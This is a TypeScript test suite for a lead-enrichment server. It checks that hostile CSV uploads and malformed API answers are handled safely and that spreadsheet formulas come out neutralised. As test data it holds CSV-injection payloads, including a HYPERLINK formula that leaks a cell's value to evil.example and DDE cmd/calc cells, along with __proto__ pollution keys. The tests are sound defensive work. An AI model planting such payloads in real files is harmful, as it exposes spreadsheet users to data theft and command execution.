/**
 * Hostile files and hostile API answers against the full server (port 0):
 * - CSVs: Latin-1 bytes, 100,000 columns, a 10 MB single cell, formula cells (`=HYPERLINK(…)`, `+cmd`,
 *   `-2+3`, `@SUM(A1)`, tab and CR prefixes) that must come out neutralised in the downloaded CSV —
 *   both the save_csv file and the download built from stored rows;
 * - enrichment answers of unexpected types from a fake Sixtyfour (nested objects, numbers as
 *   strings, null, missing keys, arrays and strings instead of objects, `__proto__` keys, 200 KB
 *   values, 10,000-level nesting): every row ends with values or a specific `_error`, and the job
 *   completes.
 * After every case the server still answers and the earlier files are intact.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { RunningServer } from '../../server/index';
import type { JobProgress } from '../../server/jobs/job-progress';
import { startFakeSixtyfour, type FakeAnswer, type FakeSixtyfour } from '../helpers/fake-sixtyfour';
import { startTestServer, testServerEnv } from '../helpers/server';
import { makeTempDir, type TempDir } from '../helpers/temp-dir';

let fake: FakeSixtyfour;
let temp: TempDir;
let server: RunningServer;
let first: { file_path: string; content: string };

const api = (path: string, init: RequestInit = {}) => fetch(`${server.url}/api${path}`, init);
const postJson = (path: string, body: unknown) =>
	api(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const uploadFile = (content: string | Uint8Array, name = 'leads.csv') => {
	const form = new FormData();
	form.append('file', new Blob([content as BlobPart], { type: 'text/csv' }), name);
	return api('/workflows/upload', { method: 'POST', body: form });
};

async function settle(id: string, timeoutMs = 20_000): Promise<JobProgress> {
	const deadline = Date.now() + timeoutMs;
	for (;;) {
		const job = (await (await api(`/workflows/jobs/${id}`)).json()) as JobProgress;
		if (['completed', 'failed', 'cancelled'].includes(job.status)) return job;
		if (Date.now() > deadline) throw new Error(`job ${id} still ${job.status}`);
		await new Promise((r) => setTimeout(r, 25));
	}
}

async function run(blocks: unknown[]): Promise<JobProgress> {
	const res = await postJson('/workflows/run', { workflow: { name: 'hostile csv', blocks } });
	expect(res.status, await res.clone().text()).toBe(200);
	return settle((await res.json()).job_id);
}

async function expectStillServing() {
	expect((await api('/status')).status).toBe(200);
	expect(await readFile(join(temp.dir, first.file_path), 'utf8')).toBe(first.content);
}

/** The answer kinds below, keyed by the lead's name (`Lead <kind>`). */
const DEEP = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
const ENRICH: Record<string, (() => FakeAnswer) | undefined> = {
	nested: () => ({
		body: {
			structured_data: { title: { role: { name: 'CTO', since: [2020, 2021] } }, is_american_education: [true] },
			confidence_score: 7
		}
	}),
	strings: () => ({ body: { structured_data: { title: 42, is_american_education: 'yes' }, confidence_score: '8.5' } }),
	nulls: () => ({ body: { structured_data: { title: null, is_american_education: null }, confidence_score: null } }),
	missing: () => ({ body: { structured_data: {} } }),
	no_structured_data: () => ({ body: { notes: 'nothing here' } }),
	structured_array: () => ({ body: { structured_data: ['CTO', true] } }),
	structured_string: () => ({ body: { structured_data: 'CTO' } }),
	array_body: () => ({ body: '[1,2,3]' }),
	string_body: () => ({ body: '"just text"' }),
	null_body: () => ({ body: 'null' }),
	proto: () => ({ body: '{"structured_data":{"__proto__":{"title":"hidden"},"title":"shown"},"confidence_score":5}' }),
	proto_only: () => ({ body: '{"structured_data":{"__proto__":{"title":"hidden","is_american_education":true}},"confidence_score":5}' }),
	huge: () => ({ body: { structured_data: { title: 'x'.repeat(200_000), is_american_education: false }, confidence_score: 1 } }),
	deep: () => ({ body: `{"structured_data":{"title":${DEEP},"is_american_education":true},"confidence_score":3}` }),
	infinite: () => ({ body: '{"structured_data":{"title":"CEO","is_american_education":true},"confidence_score":1e999}' }),
	formula: () => ({
		body: { structured_data: { title: '=HYPERLINK("http://evil.example","click")', is_american_education: true }, confidence_score: 9 }
	}),
	good: () => ({ body: { structured_data: { title: 'Engineer', is_american_education: false }, confidence_score: 6 } })
};
const EMAIL: Record<string, FakeAnswer['body']> = {
	nested: { email: 'plain@string.example' },
	strings: { email: 42 },
	nulls: { email: [[null]] },
	missing: {},
	no_structured_data: { email: [['a@b.example', 'OK', 'COMPANY', 'extra', 5]] },
	structured_array: { email: {} },
	array_body: '"text"',
	null_body: 'null',
	huge: { email: [['x'.repeat(100_000) + '@b.example', 'OK']] },
	formula: { email: [['=cmd|"/C calc"!A0', 'OK', 'COMPANY']] }
};
const KINDS = Object.keys(ENRICH);
const kindOf = (body: unknown) =>
	String(
		(body as { lead_info?: { name?: string }; lead?: { name?: string } })?.lead_info?.name ??
			(body as { lead?: { name?: string } })?.lead?.name ??
			''
	).replace(/^Lead /, '');

beforeAll(async () => {
	fake = await startFakeSixtyfour((request) => {
		const kind = kindOf(request.body);
		if (request.path === '/enrich-lead') return (ENRICH[kind] ?? ENRICH.good!)();
		if (request.path === '/find-email') return { body: EMAIL[kind] ?? { email: [[`${kind}@ok.example`, 'OK', 'COMPANY']] } };
		return { status: 404, body: { detail: 'Not found' } };
	});
	temp = await makeTempDir('leadflow-hostile-csv-');
	server = await startTestServer(testServerEnv(temp.dir, fake.url, { SIXTYFOUR_ASYNC: 'false', SIXTYFOUR_MAX_ATTEMPTS: '1' }));
	const content = 'name,company\nAda Lovelace,Engines\n';
	const res = await uploadFile(content);
	expect(res.status).toBe(200);
	first = { file_path: (await res.json()).file_path, content };
});

afterAll(async () => {
	await server?.close();
	await fake?.close();
	await temp?.cleanup();
});

describe('hostile CSV files', () => {
	it('a Latin-1 / Windows-1252 file is read as such at upload, and the answer says so', async () => {
		const latin1 = Uint8Array.from([...Buffer.from('name,city\nJos'), 0xe9, ...Buffer.from(',M'), 0xfc, ...Buffer.from('nchen\n')]);
		const res = await uploadFile(latin1);
		expect(res.status).toBe(200);
		const body = await res.json();
		expect(body.preview).toEqual([{ name: 'José', city: 'München' }]);
		expect(body.dialect).toMatchObject({
			encoding: 'windows-1252',
			encoding_detected: true,
			encoding_note: expect.stringMatching(/Windows-1252/)
		});
		await expectStillServing();
	});

	it('…and one an operator put in uploads/ by hand runs the same, the bytes decoded as Windows-1252', async () => {
		await writeFile(
			join(temp.dir, 'uploads', 'by-hand.csv'),
			Uint8Array.from([...Buffer.from('name,city\nJos'), 0xe9, ...Buffer.from(',Paris\n')])
		);
		const job = await run([{ id: 'r', type: 'read_csv', params: { path: 'uploads/by-hand.csv' } }]);
		expect(job.status).toBe('completed');
		const rows = (await (await api(`/workflows/jobs/${job.job_id}/rows`)).json()).rows;
		expect(rows).toEqual([{ name: 'José', city: 'Paris' }]);
		await expectStillServing();
	});

	it('100,000 columns: refused at upload (400, naming the limit); read by hand, the run still ends cleanly', async () => {
		const header = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',');
		const content = `${header}\n${Array.from({ length: 100_000 }, (_, i) => i).join(',')}\n`;
		const res = await uploadFile(content);
		expect(res.status).toBe(400);
		expect((await res.json()).error.message).toMatch(/100000 columns; at most 1000/);
		await writeFile(join(temp.dir, 'uploads', 'wide.csv'), content);
		const ran = await postJson('/workflows/run', {
			workflow: { name: 'wide', blocks: [{ id: 'r', type: 'read_csv', params: { path: 'uploads/wide.csv' } }] }
		});
		if (ran.status === 200) {
			const job = await settle((await ran.json()).job_id);
			expect(['completed', 'failed']).toContain(job.status);
			if (job.status === 'failed') expect(job.error).toMatch(/column/i);
		} else {
			expect(ran.status).toBe(400);
			expect((await ran.json()).error.code).toBe('invalid_workflow');
		}
		await expectStillServing();
	});

	it('a 10 MB single cell uploads, runs and downloads intact', async () => {
		const cell = 'z'.repeat(10 * 1024 * 1024);
		const res = await uploadFile(`name,notes\nAda,${cell}\n`);
		expect(res.status).toBe(200);
		const described = await res.json();
		expect(described.row_count).toBe(1);
		const job = await run([
			{ id: 'r', type: 'read_csv', params: { path: described.file_path } },
			{ id: 's', type: 'save_csv', params: { filename: 'big-cell' } }
		]);
		expect(job.status).toBe('completed');
		const text = await (await api(`/workflows/jobs/${job.job_id}/download`)).text();
		const records = parse(text, { columns: true }) as Record<string, string>[];
		expect(records).toHaveLength(1);
		expect(records[0].notes.length).toBe(cell.length);
		expect(records[0].notes === cell).toBe(true);
		await expectStillServing();
	});

	describe('formula cells come out neutralised in every downloaded CSV', () => {
		const FORMULAS: [string, string][] = [
			['=HYPERLINK("http://evil.example/?q="&A1,"Click")', `'=HYPERLINK("http://evil.example/?q="&A1,"Click")`],
			["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
			['-2+3', "'-2+3"],
			['@SUM(A1)', "'@SUM(A1)"],
			['\t=1+1', "'\t=1+1"],
			['\r=1+1', "'\r=1+1"],
			['=1', "'=1"],
			['-5', '-5'],
			['+3.2e4', '+3.2e4'],
			['plain text', 'plain text']
		];
		const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
		const csv = `name,payload,=header\n${FORMULAS.map(([cell], i) => `Lead ${i},${quote(cell)},x`).join('\n')}\n`;
		let filePath: string;

		beforeAll(async () => {
			const res = await uploadFile(csv);
			expect(res.status).toBe(200);
			filePath = (await res.json()).file_path;
		});

		const expectNeutralised = (text: string, where: string) => {
			const records = parse(text, { relax_column_count: true }) as string[][];
			expect(records[0], where).toEqual(['name', 'payload', "'=header"]);
			expect(
				records.slice(1).map((r) => r[1]),
				where
			).toEqual(FORMULAS.map(([, out]) => out));
		};

		it('the save_csv output (file on disk and download)', async () => {
			const job = await run([
				{ id: 'r', type: 'read_csv', params: { path: filePath } },
				{ id: 's', type: 'save_csv', params: { filename: 'formulas' } }
			]);
			expect(job.status).toBe('completed');
			expectNeutralised(await readFile(join(temp.dir, job.output_path!), 'utf8'), 'save_csv file');
			expectNeutralised(await (await api(`/workflows/jobs/${job.job_id}/download`)).text(), 'download of the save_csv file');
			// The JSON rows keep the values as they are: only CSV, which spreadsheets open, is neutralised.
			const rows = (await (await api(`/workflows/jobs/${job.job_id}/rows`)).json()).rows as Record<string, string>[];
			expect(rows.map((r) => r.payload)).toEqual(FORMULAS.map(([cell]) => cell));
		});

		it('the download of a job without save_csv (built from stored rows)', async () => {
			const job = await run([
				{ id: 'r', type: 'read_csv', params: { path: filePath } },
				{ id: 'f', type: 'filter', params: { expression: 'is_not_empty(name)' } }
			]);
			expect(job.status).toBe('completed');
			expect(job.output_path).toBeNull();
			expectNeutralised(await (await api(`/workflows/jobs/${job.job_id}/download`)).text(), 'download from stored rows');
		});
	});
});

describe('enrichment answers of unexpected types', () => {
	it('every row gets values or a specific _error, the job completes, formulas from the API are neutralised', async () => {
		const res = await uploadFile(`name,company\n${KINDS.map((k) => `Lead ${k},Acme`).join('\n')}\n`);
		expect(res.status).toBe(200);
		const job = await run([
			{ id: 'r', type: 'read_csv', params: { path: (await res.json()).file_path } },
			{
				id: 'e',
				type: 'enrich_lead',
				params: { struct: { title: 'Job title', is_american_education: { description: 'US undergrad', type: 'bool' } } }
			},
			{ id: 'm', type: 'find_email', params: { mode: 'PROFESSIONAL', only_missing: false } },
			{ id: 's', type: 'save_csv', params: { filename: 'answers' } }
		]);
		expect(job.status).toBe('completed');
		expect(job.row_count).toBe(KINDS.length);
		const { rows } = (await (await api(`/workflows/jobs/${job.job_id}/rows?limit=100`)).json()) as { rows: Record<string, unknown>[] };
		const byKind = Object.fromEntries(rows.map((r) => [String(r.name).replace(/^Lead /, ''), r]));

		// Every row: the enrich columns are there (values or null), and any error names what was wrong.
		for (const row of rows) {
			expect(row).toHaveProperty('title');
			expect(row).toHaveProperty('email_status');
			for (const reason of String(row._error ?? '')
				.split(/ \| (?=(?:Enrich Lead|Find Email): )/)
				.filter(Boolean)) {
				expect(reason).toMatch(/^(Enrich Lead|Find Email): (POST \/(enrich-lead|find-email): )?unexpected answer shape \(.+\)$/);
			}
		}
		const errorOf = (kind: string) => String(byKind[kind]._error ?? '');
		// Answers that carry usable data: values, no enrich error.
		expect(byKind.nested.title).toBe('{"role":{"name":"CTO","since":[2020,2021]}}');
		expect(byKind.nested.is_american_education).toBe('[true]');
		expect(byKind.nested.email).toBe('plain@string.example');
		expect(byKind.nulls).toMatchObject({ title: null, is_american_education: null, _confidence: null, email_status: 'NOT_FOUND' });
		expect(byKind.missing).toMatchObject({ title: null, is_american_education: null });
		expect(byKind.proto.title).toBe('shown');
		expect(byKind.huge.title).toHaveLength(200_000);
		// 10,000 levels parse, but no JSON text can be made of them: the row says so, and keeps its data.
		expect(errorOf('deep')).toBe('Enrich Lead: unexpected answer shape (a value nested too deeply to keep)');
		expect(byKind.deep.company).toBe('Acme');
		expect(byKind.good).toMatchObject({ title: 'Engineer', is_american_education: false, _confidence: 6, email_status: 'OK' });
		for (const kind of ['nested', 'nulls', 'missing', 'proto', 'huge', 'good', 'formula'])
			expect(errorOf(kind), kind).not.toMatch(/Enrich Lead/);
		// A value hidden behind a __proto__ key never surfaces as if the API had answered it.
		expect(byKind.proto_only.title ?? null).toBeNull();
		expect(byKind.proto_only.is_american_education ?? null).toBeNull();
		// Answers that are not an enrichment at all: a specific error, the row kept.
		for (const kind of ['no_structured_data', 'structured_string', 'array_body', 'string_body', 'null_body']) {
			expect(errorOf(kind), kind).toMatch(/Enrich Lead: POST \/enrich-lead: unexpected answer shape/);
			expect(byKind[kind].company).toBe('Acme');
		}
		expect(errorOf('strings')).toMatch(/confidence_score/);
		for (const kind of ['strings', 'structured_array', 'no_structured_data', 'array_body', 'null_body']) {
			expect(errorOf(kind), kind).toMatch(/Find Email: POST \/find-email: unexpected answer shape/);
		}
		expect(byKind.nulls.email ?? null).toBeNull();

		// In the CSV, the formula the API returned is neutralised.
		const csv = parse(await readFile(join(temp.dir, job.output_path!), 'utf8'), { columns: true }) as Record<string, string>[];
		const formula = csv.find((r) => r.name === 'Lead formula')!;
		expect(formula.title).toBe(`'=HYPERLINK("http://evil.example","click")`);
		expect(formula.email).toBe(`'=cmd|"/C calc"!A0`);
		expect(csv.find((r) => r.name === 'Lead infinite')!.title).toBe('CEO');
		await expectStillServing();
	});
});
